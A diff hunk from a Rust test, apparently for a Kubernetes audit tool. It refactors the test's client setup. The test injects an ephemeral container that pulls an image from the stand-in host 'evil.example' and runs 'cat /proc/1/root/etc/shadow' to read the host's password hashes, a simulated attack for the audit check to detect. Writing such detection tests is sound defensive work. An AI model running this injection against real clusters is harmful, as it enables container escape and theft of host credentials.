@@ -1032,12 +1032,8 @@ fn audit_check_names_a_foreign_ephemeral_image_added_with_the_runs_token() {
         .build()
         .unwrap();
     let status = rt.block_on(async {
-        let kubeconfig = kube::config::Kubeconfig::read_from(&s.server.kubeconfig).unwrap();
-        let mut config = kube::Config::from_custom_kubeconfig(kubeconfig, &Default::default())
-            .await
-            .unwrap();
-        config.auth_info.token = Some(token.into());
-        let pods: Api<Pod> = Api::namespaced(kube::Client::try_from(config).unwrap(), "mixed");
+        let client = crate::monitor::client_for(&s.server, &token, None).await;
+        let pods: Api<Pod> = Api::namespaced(client, "mixed");
         let patch = json!({"spec": {"ephemeralContainers": [{
             "name": "vigil-evil", "image": "evil.example/shell:latest", "targetContainerName": "app",
             "command": ["/bin/sh", "-c", "cat /proc/1/root/etc/shadow"]
